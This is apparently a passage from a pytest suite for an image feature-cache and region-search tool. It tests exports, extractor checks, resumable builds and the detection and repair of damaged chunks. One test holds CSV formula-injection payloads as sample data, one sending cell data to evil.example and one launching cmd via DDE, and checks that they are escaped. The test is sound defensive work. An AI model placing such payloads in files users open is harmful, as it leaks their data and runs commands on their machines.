    assert search_json(cache, result, {"index": 3})["excluded"] == [3, 7]
    keep = np.ones(12, dtype=bool)
    keep[result.excluded] = False
    table = image_scores(cache, result, keep)
    assert table.index.name == "index" and table.index.tolist() == [i for i in range(12) if i not in (3, 7)]
    assert table["manifest_score"].tolist() == [i * 10.0 for i in table.index]  # the manifest's, kept
    np.testing.assert_array_equal(table["score"], result.scores[keep])
    assert table["grid_box"].tolist() == [result.grid_box(i) for i in table.index]
    plain = image_scores(open_cache(tmp_path / "c.zarr"), result)
    assert len(plain) == 12 and "manifest_score" in plain  # every image without `keep`


def test_the_search_csv_holds_each_ranked_images_manifest_row(tmp_path):
    """The Search page's CSV: the ranked table and the rest of each image's manifest row (a patient
    id: a leave-out can be checked in it — it held the table alone, a review found)."""
    from vfs.export import ranked_rows

    rows = candidates(12).assign(score=np.arange(12) * 10.0)  # a manifest column named as a table one
    w = CacheWriter.open(tmp_path / "c.zarr", SPEC, rows, 32)
    fill(w, range(12))
    w.finish(rows)
    cache = open_cache(tmp_path / "c.zarr")
    result = search_regions(cache, 3, np.ones((4, 5)), k=4, exclude=3)
    columns = ["rank", "index", "score", "label", "domain", "path"]
    table = ranked_rows(cache, result, columns)
    assert list(table.columns) == [*columns, "age", "sick", "manifest_score"]  # label, dom and path once
    assert table["index"].tolist() == result.top_indices.tolist()
    assert table["age"].tolist() == [i * 1.5 for i in result.top_indices]
    assert table["manifest_score"].tolist() == [i * 10.0 for i in result.top_indices]
    np.testing.assert_array_equal(table["score"], result.scores[result.top_indices])


def test_the_pages_csv_opens_in_a_spreadsheet_as_values_not_formulas(tmp_path):
    """A dataset's labels, domains and column names reach the pages' CSV downloads as they are: a
    label `=HYPERLINK(…)` would run as a formula where a hosted app's visitor opens the file in a
    spreadsheet (security review). Text that begins as a formula does gets an apostrophe (OWASP);
    numbers, negative ones too, and other text are written as before."""
    import csv
    import io

    from vfs.export import image_scores, ranked_rows, spreadsheet_csv

    evil = [
        '=HYPERLINK("http://evil.example/?"&A1,"click")',
        "+cmd|' /C calc'!A0",
        "@SUM(1+1)",
        "-1+2",
        "\tx",
    ]
    after_a_separator = "cat;=1+1"  # one cell; a formula where a spreadsheet splits on ';' (code review)
    rows = candidates(8).assign(
        label=[*evil, after_a_separator, "-", None],
        dom=["=1+1", *["d"] * 7],
        **{"=col": range(8)},
        delta=np.arange(8) - 4.5,
    )
    w = CacheWriter.open(tmp_path / "c.zarr", SPEC, rows, 32)
    fill(w, range(8))
    w.finish(rows)
    cache = open_cache(tmp_path / "c.zarr")
    result = search_regions(cache, 0, np.ones((4, 5)), k=8)
    for table, index in (
        (ranked_rows(cache, result, ["rank", "index", "score", "label", "domain"]), False),
        (image_scores(cache, result), True),
    ):
        text = spreadsheet_csv(table, index=index)
        read = list(csv.DictReader(io.StringIO(text)))
        cells = [v for row in read for v in row.values()] + list(read[0])
        assert not [c for c in cells if c and c[0] in "=+@\t"], text  # no formula left
        assert {"'" + e for e in evil} <= set(cells) and "'=col" in read[0] and "'=1+1" in cells
        assert {after_a_separator, "'-"} <= set(cells)  # other text as it was; a lone "-" is text too
        assert f'"{after_a_separator}"' in text  # quoted: one cell, whatever splits the others
        back = pd.read_csv(io.StringIO(text))
        if "delta" in back:
            np.testing.assert_array_equal(np.sort(back["delta"]), np.arange(8) - 4.5)  # numbers stay numbers
        assert back["score"].dtype == float
    assert (
        spreadsheet_csv(pd.DataFrame({"a": [1.5], "b": ["x"]})).splitlines()[1] == '0,1.5,"x"'
    )  # numbers bare


def test_compared_scores_are_both_sides_rows_the_agreement_is_computed_from(tmp_path):
    from vfs.export import compared_scores
    from vfs.stats import rank_agreement

    build(tmp_path / "c.zarr", 12)
    cache = open_cache(tmp_path / "c.zarr")
    wide, narrow = np.ones((4, 5)), np.zeros((4, 5))
    narrow[1:3, 1:3] = 1
    a, b = (search_regions(cache, 3, m, k=4, exclude=3, all_exact=True) for m in (wide, narrow))
    keep = np.arange(12) != 3
    table = compared_scores(cache, a, b, keep)
    assert table.index.name == "index" and table.index.tolist() == [i for i in range(12) if i != 3]
    assert table["path"].tolist() == cache.manifest["path"][keep].tolist()
    np.testing.assert_array_equal(table["left_score"], a.scores[keep])
    np.testing.assert_array_equal(table["right_score"], b.scores[keep])
    assert table["right_grid_box"].tolist() == [b.grid_box(i) for i in table.index]
    for side, result in (("left", a), ("right", b)):  # ranks among the compared images, 1 the best
        order = table.index[np.argsort(-result.scores[keep], kind="stable")]
        assert table.loc[order, f"{side}_rank"].tolist() == list(range(1, 12)), side
    assert table["left_rank"].dtype == np.int64
    clashing = cache.manifest.assign(left_score="radiologist A", manifest_left_score=1)
    cache._manifest = clashing  # a manifest column named as the export's (code review: overwritten)
    table = compared_scores(cache, a, b, keep)
    np.testing.assert_array_equal(table["left_score"], a.scores[keep])
    assert (table["manifest_manifest_left_score"] == "radiologist A").all()  # its name taken: once more
    assert (table["manifest_left_score"] == 1).all()
    # … and the JSON: each side as the CLI writes a search, with its weights, and the agreement
    from vfs.export import comparison_json, search_json

    agreement = rank_agreement(a.scores[keep], b.scores[keep], 4)
    out = json.loads(json.dumps(comparison_json((cache, a), (cache, b), {"index": 3}, agreement, 4, 11)))
    assert out["left"] == json.loads(json.dumps(search_json(cache, a, {"index": 3}), default=str))
    assert out["right"]["results"][0]["index"] == int(b.top["index"].iloc[0])
    assert out["agreement"]["compared_images"] == 11 and out["agreement"]["k"] == 4
    assert out["agreement"]["spearman"] == pytest.approx(agreement["spearman"], abs=1e-6)
    flat = rank_agreement(np.ones(11), b.scores[keep], 4)  # one side's scores all alike: no correlation
    out = comparison_json((cache, a), (cache, b), {"index": 3}, flat, 4, 11)
    assert out["agreement"]["spearman"] is None and json.dumps(out, allow_nan=False, default=str)
    again = rank_agreement(table["left_score"].to_numpy(), table["right_score"].to_numpy(), 4)
    assert again == rank_agreement(a.scores[keep], b.scores[keep], 4)


def test_check_extractor_compares_the_weights_where_both_know_them(tmp_path):
    """The weights' digest says which model made the features: another digest is refused whatever
    the spec says, the same one is accepted under another spec (a checkpoint moved)."""
    w = CacheWriter.open(tmp_path / "c.zarr", replace(SPEC, weights="sha256:aa"), candidates(5), 32)
    fill(w, range(5))
    w.finish(candidates(5))
    c = open_cache(tmp_path / "c.zarr")
    assert c.spec.weights == "sha256:aa"
    c.check_extractor(described(weights="sha256:aa"))
    c.check_extractor(described(weights="sha256:aa", spec="file:/new/place.pt?arch=x"))
    c.check_extractor(described(weights="sha256:bb", spec="module:edited"))  # edited on purpose
    with pytest.raises(CacheError, match="built with weights 'sha256:aa', not 'sha256:bb'.*rebuild"):
        c.check_extractor(described(weights="sha256:bb"))
    build(tmp_path / "old.zarr", 5)  # a cache from before the digest: the spec string decides
    old = open_cache(tmp_path / "old.zarr")
    assert old.spec.weights is None and "weights" not in old.spec.to_dict()
    old.check_extractor(described(weights="sha256:bb"))
    with pytest.raises(CacheError, match="built with spec"):
        old.check_extractor(described(weights="sha256:bb", spec="timm:resnet50"))


def test_a_resume_with_other_weights_is_refused(tmp_path):
    w = CacheWriter.open(tmp_path / "c.zarr", replace(SPEC, weights="sha256:aa"), candidates(20), 32)
    fill(w, range(9))
    with pytest.raises(CacheError, match="weights: 'sha256:aa' ≠ 'sha256:bb'"):
        CacheWriter.open(tmp_path / "c.zarr", replace(SPEC, weights="sha256:bb"), candidates(20), 32)
    CacheWriter.open(tmp_path / "c.zarr", replace(SPEC, weights="sha256:aa"), candidates(20), 32)


def test_check_extractor_compares_the_probe_within_its_tolerance(tmp_path):
    """Weights can be the same tensors in another network (a checkpoint loaded as a near relative
    of its architecture): the layer's output on the probe image tells them apart, within a
    tolerance, as floats differ from machine to machine. Caches without a probe, and extractors
    made from a module (edited on purpose), are not compared."""
    probe = tuple(np.linspace(-1.0, 1.0, 64))
    w = CacheWriter.open(
        tmp_path / "c.zarr", replace(SPEC, weights="sha256:aa", probe=probe), candidates(5), 32
    )
    fill(w, range(5))
    w.finish(candidates(5))
    c = open_cache(tmp_path / "c.zarr")
    assert c.spec.probe == probe and len(c.spec.to_dict()["probe"]) == 64
    near = list(np.asarray(probe) * (1 + 1e-5))  # another CPU's rounding
    far = list(np.asarray(probe) + 0.05)
    c.check_extractor(described(weights="sha256:aa", probe=near, spec="file:/x.pt?arch=y"))
    c.check_extractor(described(weights="sha256:aa", probe=None))  # an extractor that does not say
    c.check_extractor(described(weights="sha256:bb", probe=far, spec="module:edited"))
    for spec in (SPEC.model, "file:/x.pt?arch=efficientnet_lite0"):
        with pytest.raises(
            CacheError, match=r"probe image features 0.085 apart \(relative\).*as it was built"
        ):
            c.check_extractor(described(weights="sha256:aa", probe=far, spec=spec))
    build(tmp_path / "old.zarr", 5)  # from before the probe: not compared
    assert open_cache(tmp_path / "old.zarr").spec.probe is None
    open_cache(tmp_path / "old.zarr").check_extractor(described(probe=far))


def test_a_resume_with_a_model_computing_otherwise_is_refused(tmp_path):
    probe = tuple(np.linspace(-1.0, 1.0, 64))
    w = CacheWriter.open(tmp_path / "c.zarr", replace(SPEC, probe=probe), candidates(20), 32)
    fill(w, range(9))
    with pytest.raises(CacheError, match=r"probe: the layer's output on the probe image 0.085 apart"):
        CacheWriter.open(
            tmp_path / "c.zarr", replace(SPEC, probe=tuple(np.asarray(probe) + 0.05)), candidates(20), 32
        )
    near = tuple(np.asarray(probe) * (1 + 1e-5))
    assert CacheWriter.open(tmp_path / "c.zarr", replace(SPEC, probe=near), candidates(20), 32).rows == 7


def test_a_partial_cache_finished_while_open_says_to_open_it_again(tmp_path):
    """A search of a cache being built, during its build's last step, was told "the cache is damaged
    or unreachable: rebuild or re-download it" — of a healthy cache (failure-injection review)."""
    w = CacheWriter.open(tmp_path / "c.zarr", SPEC, candidates(20), 32)
    fill(w, range(14))
    reading = open_cache(tmp_path / "c.zarr", allow_partial=True)
    fill(w, range(14, 20))
    w.finish(candidates(20))
    with pytest.raises(CacheError, match="was finished since it was opened: open it again"):
        reading.manifest
    assert len(open_cache(tmp_path / "c.zarr").manifest) == 20


def test_a_resume_redoes_the_chunks_missing_on_disk(tmp_path):
    """A partial cache copied mid-build (or hit by a disk fault) lacks chunk files its progress
    counts: the resume computes those images again, instead of finishing a cache search refuses."""
    build(tmp_path / "clean.zarr", 30, bad={3})
    w = CacheWriter.open(tmp_path / "p.zarr", SPEC, candidates(30), 32)
    fill(w, range(23), bad={3})
    assert w.rows == 21
    (tmp_path / "p.zarr" / "features" / "c" / "1" / "0" / "0" / "0").unlink()  # rows 7..13
    with pytest.warns(
        UserWarning, match=r"missing on disk \(its first image: 7\); the build computes images 7..20"
    ):
        resumed = CacheWriter.open(tmp_path / "p.zarr", SPEC, candidates(30), 32)
    assert (resumed.rows, resumed.next_item, resumed.skipped) == (7, 8, w.skipped)  # item 3 skipped
    assert open_cache(tmp_path / "p.zarr", allow_partial=True).n == 7  # recorded at once: the rest is gone
    fill(resumed, range(8, 30), bad={3})
    resumed.finish(candidates(30))
    assert_built_alike(tmp_path / "clean.zarr", tmp_path / "p.zarr")


@pytest.mark.parametrize("lost", ["features", "thumbs", "source_index"])
def test_a_rerun_of_a_finished_build_computes_the_chunks_lost_since(tmp_path, lost):
    """A complete cache that lost a chunk file (a disk fault, a copy cut short): searches say it is
    damaged and to rerun its build — which said "complete: nothing to do" and left it so. Now
    `info` says where, and the rerun computes those images again and finishes alike."""
    import shutil

    build(tmp_path / "clean.zarr", 30, bad={9})
    shutil.copytree(tmp_path / "clean.zarr", tmp_path / "c.zarr")
    out = tmp_path / "c.zarr"
    chunk = open_cache(out).group[lost]
    per = chunk.chunks[0]
    (out / lost / chunk.metadata.encode_chunk_key((1, *(0,) * (chunk.ndim - 1)))).unlink()  # rows per..
    damaged = open_cache(out)
    assert damaged.complete and damaged.info()["lost_from"] == per
    assert open_cache(tmp_path / "clean.zarr").info()["lost_from"] is None
    redo = per - per % damaged.features.chunks[0]  # from the start of a features chunk
    with pytest.warns(
        UserWarning,
        match=rf"missing on disk \(its first image: {per}\); the build computes images {redo}..28",
    ):
        resumed = CacheWriter.open(out, SPEC, candidates(30), 32)
    assert resumed.rows == redo and resumed.next_item == redo + (redo > 9)  # item 9 is skipped
    assert not open_cache(out, allow_partial=True).complete  # a search refuses it until it finishes
    fill(resumed, range(resumed.next_item, 30), bad={9})
    resumed.finish(candidates(30))
    assert_built_alike(tmp_path / "clean.zarr", out)
    pd.testing.assert_frame_equal(open_cache(out).manifest, open_cache(tmp_path / "clean.zarr").manifest)
    assert open_cache(out).info()["lost_from"] is None
    with pytest.raises(AlreadyComplete):
        CacheWriter.open(out, SPEC, candidates(30), 32)


@pytest.mark.parametrize("finished", [True, False])
@pytest.mark.parametrize(
    "damage",
    [
        ("features", lambda data: bytes(len(data))),  # zero-filled, as a crash or a copy can leave it
        ("features", lambda data: data[::-1]),  # overwritten with other values of the same size
        ("sqnorm", lambda data: os.urandom(len(data))),  # garbled: the codec cannot decode it
        ("thumbs", lambda data: os.urandom(len(data))),
    ],
)
def test_a_chunk_damaged_in_place_is_said_and_repaired_by_the_rerun(tmp_path, damage, finished):
    """A features chunk zero-filled in place was searched as it read — its images scored 0, the
    results wrong without a word — and a chunk that a search said was damaged ("rebuild it") was
    left so by the rerun ("nothing was built now"), or by a resume, which then marked it complete:
    a dead end (failure-injection review, diff review). Searches check each image's largest cell
    against its stored norm; a rerun or resume checks every cell and decodes every chunk, and
    computes the images of a damaged one again."""
    import shutil

    name, garble = damage
    build(tmp_path / "clean.zarr", 30, bad={9})
    out = tmp_path / "c.zarr"
    if finished:
        shutil.copytree(tmp_path / "clean.zarr", out)
    else:
        fill(CacheWriter.open(out, SPEC, candidates(30), 32), range(23), bad={9})  # 22 images stored
    arr = open_cache(out, allow_partial=True).group[name]
    chunk = out / name / arr.metadata.encode_chunk_key((7 // arr.chunks[0], *(0,) * (arr.ndim - 1)))
    chunk.write_bytes(garble(chunk.read_bytes()))  # image 7's: the second features chunk's first
    reading = open_cache(out, allow_partial=True)
    with pytest.raises(CacheError, match="rerun its build to (repair|resume) it"):  # resume: partial
        if name == "thumbs":
            reading.thumbs_at([7])
        else:
            search_regions(reading, 0, np.ones((4, 5)))
    last = 28 if finished else 20  # what was stored of the 22: whole chunks
    with pytest.warns(
        UserWarning, match=rf"damaged .*on disk \(its first image: 7\); the build computes images 7..{last}"
    ):
        resumed = CacheWriter.open(out, SPEC, candidates(30), 32)
    fill(resumed, range(resumed.next_item, 30), bad={9})
    resumed.finish(candidates(30))
    assert_built_alike(tmp_path / "clean.zarr", out)
    with pytest.raises(AlreadyComplete):
        CacheWriter.open(out, SPEC, candidates(30), 32)


def test_a_failing_read_while_a_rerun_checks_the_chunks_is_no_damage(tmp_path, monkeypatch):
    """The machine's faults (too many files open, memory) while a rerun read the chunks were taken
    for damage, and a healthy cache computed again from there (diff review)."""
    import errno

    build(tmp_path / "c.zarr", 30)

    def fails(*args, **kwargs):
        raise OSError(errno.EMFILE, "Too many open files")

    monkeypatch.setattr("vfs.cache.damage.rows_disagreeing", fails)
    with pytest.raises(OSError, match="Too many open files"):
        CacheWriter.open(tmp_path / "c.zarr", SPEC, candidates(30), 32)
    assert open_cache(tmp_path / "c.zarr").complete
    with pytest.raises(OSError, match="Too many open files"):  # nor for `vfs check`
        open_cache(tmp_path / "c.zarr").check()


def chunk_file(cache_path, name, row):
    """The file of array `name`'s chunk holding `row`."""
    arr = open_cache(cache_path, allow_partial=True).group[name]
    return cache_path / name / arr.metadata.encode_chunk_key((row // arr.chunks[0], *(0,) * (arr.ndim - 1)))


def test_check_reads_every_chunk_and_names_each_damage_a_rerun_repairs(tmp_path, capsys, monkeypatch):
    """`vfs check`: `info` reads no chunk, so a copied cache's damage in place was found only by the
    searches that read it. The check decodes every chunk and checks every cell, names each damaged
    chunk's images and each missing manifest column, exits 1; the build's rerun repairs them all."""
    import shutil

    from vfs.cli import main

    build(tmp_path / "clean.zarr", 30, bad={9})  # 29 images stored, 7 a features chunk
    out = tmp_path / "c.zarr"
    shutil.copytree(tmp_path / "clean.zarr", out)
    found = open_cache(out).check()
    assert found.ok and found.problems() == [] and found.images == 29 and found.unverified == []
    monkeypatch.setenv("VFS_PROGRESS_EVERY_S", "0")  # in a log (stderr no terminal): lines, as a build's
    assert main(["check", str(out)]) == 0
    said = capsys.readouterr()
    assert "OK (complete) — 29 images read" in said.out
    assert said.err.splitlines() == [f"check: {i} / 29 images" for i in (7, 14, 21, 28)]

    features = chunk_file(out, "features", 7)
    features.write_bytes(bytes(features.stat().st_size))  # zero-filled: images 7..13
    thumbs = chunk_file(out, "thumbs", 20)
    thumbs.write_bytes(os.urandom(thumbs.stat().st_size))  # in the third features chunk, 14..20
    shutil.rmtree(out / "manifest" / "dom")
    found = open_cache(out).check()
    assert not found.ok and found.lost_columns == ["dom"]
    assert [(d.first, d.stop) for d in found.damaged] == [(7, 14), (14, 21)]
    assert "features of 7 images are not those" in found.damaged[0].what
    assert "thumbnails does not decode" in found.damaged[1].what
    assert main(["check", str(out)]) == 1
    said = capsys.readouterr().out
    assert "DAMAGED (complete)" in said and "images 7..13: the features of 7 images" in said
    assert "images 14..20: a chunk of its thumbnails does not decode" in said
    assert "column 'dom' is missing" in said and "rerun the build that made it" in said
    assert main(["check", str(out), "--json"]) == 1
    report = json.loads(capsys.readouterr().out)
    assert report["ok"] is False and [d["first"] for d in report["damaged"]] == [7, 14]

    with pytest.warns(UserWarning):
        resumed = CacheWriter.open(out, SPEC, candidates(30), 32)
    fill(resumed, range(resumed.next_item, 30), bad={9})
    resumed.finish(candidates(30))
    assert open_cache(out).check().ok
    assert_built_alike(tmp_path / "clean.zarr", out)


def test_check_of_a_partial_and_of_a_remote_cache(tmp_path, capsys):
    """A partial cache's stored images are checked (an interrupted build's copy); a cache behind a
    URL is read through its server, whose failure is no damage of the cache's."""
    from cachehelpers import served

    from vfs.cli import main

    fill(CacheWriter.open(tmp_path / "p.zarr", SPEC, candidates(30), 32), range(16))  # 14 stored
    assert open_cache(tmp_path / "p.zarr", allow_partial=True).check().images == 14
    assert main(["check", str(tmp_path / "p.zarr")]) == 0
    assert "OK (PARTIAL: its images stored so far) — 14 images read" in capsys.readouterr().out
    shutil.copytree(tmp_path / "p.zarr", tmp_path / "q.zarr")
    shutil.rmtree(tmp_path / "q.zarr" / "candidates" / "label")  # named as what it is, not "its manifest"
    found = open_cache(tmp_path / "q.zarr", allow_partial=True).check()
    assert "its candidates table's column 'label' is missing, garbled or cut short" in found.problems()

    build(tmp_path / "c.zarr", 30)
    sqnorm = chunk_file(tmp_path / "c.zarr", "sqnorm", 22)
    sqnorm.write_bytes(os.urandom(sqnorm.stat().st_size))
    chunk_file(tmp_path / "c.zarr", "thumbs", 3).unlink()  # a download cut short (diff review: OK)
    (tmp_path / "c.zarr" / "manifest" / "dom" / "c" / "0").unlink()
    with served(tmp_path) as url:
        found = open_cache(f"{url}/c.zarr").check()
        assert [(d.first, d.stop, d.what) for d in found.damaged] == [
            (0, 7, "a chunk of its thumbnails is missing"),
            (21, 28, "a chunk of its norms does not decode"),
        ]
        assert found.lost_columns == ["dom"] and not found.ok
    with served(tmp_path) as url:
        remote = open_cache(f"{url}/c.zarr")
    with pytest.raises(CacheError, match="its server did not serve it"):
        remote.check()


def test_check_says_damaged_where_the_damage_stops_the_cache_opening(tmp_path, capsys):
    """An array's metadata gone: exit 2, 'error', where the docs say 1 for damage (diff review)."""
    from vfs.cli import main

    build(tmp_path / "c.zarr", 10)
    (tmp_path / "c.zarr" / "thumbs" / "zarr.json").unlink()
    assert main(["check", str(tmp_path / "c.zarr")]) == 1
    assert "DAMAGED, it cannot be opened" in capsys.readouterr().out
    assert main(["check", str(tmp_path / "c.zarr"), "--json"]) == 1  # JSON, as a script reads it (CLI review)
    said = json.loads(capsys.readouterr().out)
    assert said["opened"] is False and said["ok"] is False and "cannot be opened" in said["problems"][0]
    assert main(["check", str(tmp_path / "none.zarr")]) == 2  # no cache there: an error
    assert main(["check", str(tmp_path)]) == 2  # a folder, no cache


def test_a_cache_changed_while_checked_is_no_damage(tmp_path, monkeypatch):
    """A partial cache finished while its check read it was said DAMAGED: 'finished since it was
    opened' (diff review)."""
    build(tmp_path / "c.zarr", 10)
    cache = open_cache(tmp_path / "c.zarr")
    monkeypatch.setattr(type(cache), "replaced_on_disk", lambda self: True)
    with pytest.raises(CacheError, match="changed while it was checked .*check it again"):
        cache.check()


def test_a_chunk_garbled_within_its_compressed_frame_is_damage(tmp_path):
    """zstd frames without their checksum decode bytes garbled in their literals into other values
    without a word: thumbnails, source indices and labels then wrong, a check and a rerun none the
    wiser (found writing `vfs check`). Every compressed chunk now carries zstd's checksum; a cache
    written without says so."""
    rng = np.random.default_rng(0)
    feats = rng.standard_normal((30, 4, 5, 8)).astype(np.float16)
    thumbs = rng.integers(0, 256, (30, 32, 32, 3), dtype=np.uint8)  # incompressible: zstd's raw blocks

    def write(path):
        w = CacheWriter.open(path, SPEC, candidates(30), 32)
        for i in range(30):
            w.add(i, feats[i], thumbs[i])
        w.finish(candidates(30))

    write(tmp_path / "clean.zarr")
    write(out := tmp_path / "c.zarr")
    chunk = chunk_file(out, "thumbs", 10)
    data = bytearray(chunk.read_bytes())
    data[len(data) // 2] ^= 0xFF  # one pixel's byte, in the frame's stored literals
    chunk.write_bytes(bytes(data))
    with pytest.raises(CacheError, match="thumbnails"):
        open_cache(out).thumbs_at([10])
    found = open_cache(out).check()
    assert [(d.first, d.stop, d.what) for d in found.damaged] == [
        (7, 14, "a chunk of its thumbnails does not decode")
    ]
    assert found.unverified == []
    with pytest.warns(UserWarning, match=r"damaged .*\(its first image: 7\)"):
        resumed = CacheWriter.open(out, SPEC, candidates(30), 32)
    for i in range(resumed.next_item, 30):
        resumed.add(i, feats[i], thumbs[i])
    resumed.finish(candidates(30))
    assert_built_alike(tmp_path / "clean.zarr", out)


def test_a_garbled_manifest_chunk_is_damage_check_finds_and_a_rerun_repairs(tmp_path):
    """`check` stopped on the codec's error (exit 2, no JSON), `info` saw nothing, and the rerun of
    the build, which looked for the column's files only, said the cache was complete, while every
    search said to rerun it (CLI review)."""
    import shutil

    build(tmp_path / "clean.zarr", 12)
    shutil.copytree(tmp_path / "clean.zarr", out := tmp_path / "c.zarr")
    chunk = out / "manifest" / "dom" / "c" / "0"
    data = bytearray(chunk.read_bytes())
    data[len(data) // 2 :] = bytes(len(data) - len(data) // 2)
    chunk.write_bytes(bytes(data))
    found = open_cache(out).check()
    assert found.lost_columns == ["dom"] and not found.ok
    assert "its manifest's column 'dom' is missing, garbled or cut short" in found.problems()
    with pytest.warns(UserWarning, match=r"column\(s\) 'dom' are missing, garbled or cut short on disk"):
        resumed = CacheWriter.open(out, SPEC, candidates(12), 32)
    resumed.finish(candidates(12))
    assert open_cache(out).check().ok
    pd.testing.assert_frame_equal(open_cache(out).manifest, open_cache(tmp_path / "clean.zarr").manifest)


@pytest.mark.parametrize("short", [["label"], None])  # one column, or every one (then n disagrees)
def test_a_manifest_column_cut_short_is_damage_check_finds_and_a_rerun_repairs(tmp_path, short):
    """A manifest column shorter than the cache's images read its last images' labels as missing,
    and `check` said the cache was whole (code review): now reading it is refused with the reason,
    `check` names it, and the rerun of the same build writes it again."""
    import shutil

    import zarr

    build(tmp_path / "clean.zarr", 12)
    shutil.copytree(tmp_path / "clean.zarr", out := tmp_path / "c.zarr")
    manifest = zarr.open_group(out / "manifest", mode="r+")
    for column in short or list(manifest.attrs["columns"]):
        manifest[column].resize((9,))
    with pytest.raises(CacheError, match=r"damaged: its manifest table's column '\w+' holds 9 rows, not 12"):
        open_cache(out).manifest
    found = open_cache(out).check()
    assert not found.ok and found.lost_columns == (short or list(manifest.attrs["columns"]))
    assert any("cut short" in p for p in found.problems())
    with pytest.warns(UserWarning, match=r"column\(s\) .* are missing, garbled or cut short on disk"):
        resumed = CacheWriter.open(out, SPEC, candidates(12), 32)
    resumed.finish(candidates(12))
    assert open_cache(out).check().ok
    pd.testing.assert_frame_equal(open_cache(out).manifest, open_cache(tmp_path / "clean.zarr").manifest)


def test_a_repair_killed_while_it_reopens_the_cache_resumes(tmp_path, monkeypatch):
    """Reopening a finished cache for repair resized its arrays before marking it partial: a reader
    in between, or after a kill there, found a complete cache whose arrays disagree with its n
    (diff review). Now it is partial first, and a resume gives its arrays their length back."""
    import shutil

    build(tmp_path / "clean.zarr", 30, bad={9})
    shutil.copytree(tmp_path / "clean.zarr", tmp_path / "c.zarr")
    chunk = tmp_path / "c.zarr" / "features" / "c" / "1" / "0" / "0" / "0"
    chunk.write_bytes(bytes(chunk.stat().st_size))

    def killed(*args):
        raise KeyboardInterrupt

    with monkeypatch.context() as patched:
        patched.setattr("vfs.cache.writer._full_length", killed)
        with pytest.raises(KeyboardInterrupt), pytest.warns(UserWarning):
            CacheWriter.open(tmp_path / "c.zarr", SPEC, candidates(30), 32)
    assert not open_cache(tmp_path / "c.zarr", allow_partial=True).complete
    with pytest.warns(UserWarning, match="the build computes images 7..28"):
        resumed = CacheWriter.open(tmp_path / "c.zarr", SPEC, candidates(30), 32)
    fill(resumed, range(resumed.next_item, 30), bad={9})
    resumed.finish(candidates(30))
    assert_built_alike(tmp_path / "clean.zarr", tmp_path / "c.zarr")


@pytest.mark.parametrize("lost", ["path", "label"])
@pytest.mark.parametrize("gone", ["c/0", "."])  # its chunk file, or its whole folder
def test_a_rerun_of_a_finished_build_writes_a_manifest_column_lost_since(tmp_path, lost, gone):
    """A complete cache whose manifest lost a column's file read it as all missing: labels gone
    from the statistics, or "built from other images" on the rerun meant to mend it. Now reading
    it is refused with the reason, `info` names it, and the rerun of the same build writes it
    again — the images checked against the stored paths, or against their digest where the
    paths are what was lost."""
    import shutil

    build(tmp_path / "clean.zarr", 30, bad={9})
    shutil.copytree(tmp_path / "clean.zarr", tmp_path / "c.zarr")
    out = tmp_path / "c.zarr"
    shutil.rmtree(out / "manifest" / lost) if gone == "." else (out / "manifest" / lost / gone).unlink()
    damaged = open_cache(out)
    assert damaged.info()["lost_columns"] == [lost] and damaged.info()["lost_from"] is None
    with pytest.raises(CacheError, match=f"manifest table's column\\(s\\) '{lost}' are missing on disk"):
        damaged.manifest
    shuffled = candidates(30).iloc[::-1].reset_index(drop=True)
    with pytest.raises(CacheError, match="built from other images"):
        CacheWriter.open(out, SPEC, shuffled, 32)
    assert open_cache(out).complete  # refused without a change
    with pytest.warns(
        UserWarning, match=f"manifest's column\\(s\\) '{lost}' are missing, garbled or cut short on disk"
    ):
        resumed = CacheWriter.open(out, SPEC, candidates(30), 32)
    assert resumed.rows == 29 and resumed.next_item == 30  # nothing to compute
    resumed.finish(candidates(30))
    assert_built_alike(tmp_path / "clean.zarr", out)
    pd.testing.assert_frame_equal(open_cache(out).manifest, open_cache(tmp_path / "clean.zarr").manifest)
    assert open_cache(out).info()["lost_columns"] == []
    with pytest.raises(AlreadyComplete):
        CacheWriter.open(out, SPEC, candidates(30), 32)


def test_a_remote_caches_columns_are_not_told_lost(tmp_path):
    """Many HTTP servers list no folders: zarr's listing then finds no chunk, and every column of a
    remote cache was "lost" (review). Remote stores say nothing, as `lost_from` does."""
    build(tmp_path / "c.zarr", 12)
    remote = open_cache(f"file://{tmp_path / 'c.zarr'}")  # through fsspec, as a URL is opened
    assert remote.info()["lost_columns"] == [] and len(remote.manifest) == 12
    (tmp_path / "c.zarr" / "manifest" / "label" / "c" / "0").unlink()
    assert open_cache(f"file://{tmp_path / 'c.zarr'}").info()["lost_columns"] == []  # cannot be told
    assert open_cache(tmp_path / "c.zarr").info()["lost_columns"] == ["label"]


def test_a_rerun_of_a_finished_build_writes_its_whole_manifest_lost_since(tmp_path):
    import shutil

    build(tmp_path / "clean.zarr", 30, bad={9})
    shutil.copytree(tmp_path / "clean.zarr", tmp_path / "c.zarr")
    out = tmp_path / "c.zarr"
    shutil.rmtree(out / "manifest")
    with pytest.raises(CacheError, match="damaged: its manifest is missing; rerun the build"):
        open_cache(out).manifest
    assert open_cache(out).info()["lost_columns"] is None
    with pytest.raises(CacheError, match="built from other images"):
        CacheWriter.open(out, SPEC, candidates(30).iloc[::-1].reset_index(drop=True), 32)
    with pytest.warns(UserWarning, match="its manifest is missing on disk; the build writes it again"):
        resumed = CacheWriter.open(out, SPEC, candidates(30), 32)
    resumed.finish(candidates(30))
    pd.testing.assert_frame_equal(open_cache(out).manifest, open_cache(tmp_path / "clean.zarr").manifest)
    group = zarr.open_group(out, mode="r+")  # a cache from before the digest cannot be checked
    del group.attrs["paths_digest"]
    shutil.rmtree(out / "manifest")
    with pytest.raises(CacheError, match="built before VFS recorded their digest.*build it anew"):
        CacheWriter.open(out, SPEC, candidates(30), 32)


def test_features_damaged_on_disk_since_the_build_are_refused_naming_the_image(tmp_path):
    """Bytes of a feature chunk changed on disk (its squared norms, checked on every read, still
    fine): searches gave NaN scores, exit 0 and invalid JSON, or blamed the query (helper trial)."""
    build(tmp_path / "c.zarr", 12)
    cache = open_cache(tmp_path / "c.zarr")
    chunk = tmp_path / "c.zarr" / "features" / "c" / "0" / "0" / "0" / "0"
    data = bytearray(chunk.read_bytes())
    at = (3 * 4 * 5 * 8 + 5) * 2  # image 3, a value in its second cell
    data[at : at + 2] = np.float16(np.inf).tobytes()
    chunk.write_bytes(bytes(data))
    mask = np.ones((4, 5))
    with pytest.raises(
        ValueError, match=r"features of image\(s\) 3 \(1 in all\) contain NaN or inf: .*c.zarr is damaged"
    ):
        search_regions(open_cache(tmp_path / "c.zarr"), 0, mask)
    with pytest.raises(ValueError, match="features of the query image 3 contain NaN or inf: .*damaged"):
        search_regions(open_cache(tmp_path / "c.zarr"), 3, mask)
    assert cache.n == 12


@pytest.mark.parametrize("array", ["features", "sqnorm", "source_index"])
